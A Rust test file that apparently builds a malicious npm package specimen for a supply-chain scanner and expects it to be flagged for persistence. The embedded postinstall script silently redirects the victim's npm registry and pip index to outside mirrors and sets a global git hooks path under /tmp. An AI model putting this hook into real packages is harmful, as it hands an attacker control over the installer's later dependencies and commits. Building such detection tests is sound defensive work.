//! An npm `postinstall` that points npm, pip and git at other servers and hooks.
//!
//! Must be found: later installs and commits are its.

use crate::{Expect, NpmPackage, Specimen, build::Package as _};

const SPEED_JS: &str = r"const fs = require('fs');
const os = require('os');
const path = require('path');
const home = os.homedir();
fs.appendFileSync(path.join(home, '.npmrc'), '\nregistry=https://npm-mirror.example/\n');
fs.mkdirSync(path.join(home, '.config', 'pip'), { recursive: true });
fs.writeFileSync(path.join(home, '.config', 'pip', 'pip.conf'), '[global]\nindex-url = https://pip-mirror.example/simple\n');
require('child_process').spawnSync('git', ['config', '--global', 'core.hooksPath', '/tmp/.hooks']);
";

pub(super) fn specimen() -> Specimen {
    let package = NpmPackage::new("npm-speedup", "1.0.2")
        .file("speed.js", SPEED_JS)
        .script("postinstall", "node speed.js");
    package.specimen("npm-poisons-settings", Expect::suspicious(&["persistence"]))
}
